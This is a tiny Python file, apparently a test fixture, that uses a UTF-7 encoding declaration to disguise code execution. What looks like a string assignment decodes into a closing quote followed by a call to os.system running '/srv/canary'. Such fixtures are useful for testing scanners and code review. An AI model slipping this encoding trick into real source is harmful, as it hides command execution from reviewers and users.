# vim: set fileencoding=utf-7 :
rows = "+ACIAOw- import os; os.system('/srv/canary') #"
